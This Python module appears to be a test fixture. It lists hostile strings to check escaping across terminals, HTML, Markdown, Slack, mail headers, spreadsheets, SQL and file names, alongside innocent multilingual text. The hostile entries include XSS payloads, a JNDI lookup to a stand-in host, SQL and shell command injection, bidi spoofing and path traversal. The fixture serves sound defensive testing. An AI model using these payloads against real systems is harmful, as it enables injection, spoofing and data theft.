"""Values that would act in some sink if they were written as they are."""

from __future__ import annotations

HOSTILE = (
    # terminals
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H", "\x1b]52;c;cm0gLXJm\x07", "\x9b31m", "\x9d0;title\x9c", "\x90q\x9c", "a\x08\x08b",
    "over\rwritten", "bell\x07", "\x0e shifted \x0f", "nul\x00byte", "del\x7f", "\x1bc",
    # lines
    "one\ntwo", "one\r\nBcc: victim@example.org", "one\r\n\r\n<b>body</b>", "line\u2028separator",
    "paragraph\u2029separator", "next\x85line", "vertical\x0btab", "form\x0cfeed", "error: forged line\nok",
    # direction, and what nobody sees
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066isolated", "\u2067isolated\u2069", "\u202aembedded", "\u206aold",
    "tag" + "".join(chr(0xE0000 + ord(c)) for c in "ignore this"), "\ufff9note\ufffaruby\ufffb", "half \ud83d pair",
    # HTML
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "' onmouseover='x",
    "<!-- hidden", "]]>", "&lt;script&gt;", "&#60;b&#62;", "</title><b>", "</style><b>x", "javascript:alert(1)",
    "data:text/html,<b>x</b>", "{{ 7*7 }}", "{% raw %}", "${jndi:ldap://evil.example/x}",
    # Markdown
    "[x](javascript:alert(1))", "![x](https://evil.example/p.png)", "[s1]: https://evil.example", "# heading",
    "> quoted", "- item", "1. item", "***bold***", "`code`", "```\nblock", "| a | b |", "~~gone~~", "<https://evil.example>",
    "https://evil.example/path", "www.evil.example", "\\*escaped", "---", "===", "$x$", "[^1]", "- [ ] task",
    # Slack
    "<!channel>", "<@U012AB3CD>", "<#C024BE7LR>", "<https://evil.example|bank.example>", "*bold* _it_ ~no~", ":smile:",
    "<!date^1^{date}^https://evil.example|x>", "@here", ":+1: :-1:", "<\u200b!channel>", "＜!channel＞", "&lt;!channel&gt;",
    "&" * 400, "👩\u200d" * 400,
    # mail headers, spreadsheets, logs, SQL, format strings
    "=?utf-8?q?x=0D=0ABcc:_a@b?=", "=?utf-8?b?PHNjcmlwdD4=?=", "=HYPERLINK(\"https://evil.example\")", "+1+1", "@SUM(A1)",
    "%s%n%x", "{0.__class__}", "'; DROP TABLE items; --", "$(touch x)", "`touch x`",
    # names of files
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\con", "-rf", ".bashrc", "CON", "nul.txt", "a/b:c*d?e", "~root", "con\u200b.txt", "\u200b", "ＣＯＮ",
)  # fmt: skip

INNOCENT = (
    "שלום עולם", "مرحبا بالعالم 123", "\u200fعربي (x)\u200e", "हिन्दी में", "ไทย", "日本語の新聞", "Ελληνικά", "Привет, мир",
    "e\u0301 ñ ü ß", "👩\u200d👩\u200d👧\u200d👦", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f", "👍🏽 ❤\ufe0f",
    "می\u200cخواهم", "5 < 6 & 7 > 2", "100 % of $5", "“quoted” – ‘so’", "C++ and snake_case", "🇩🇪🇫🇷",
)  # fmt: skip
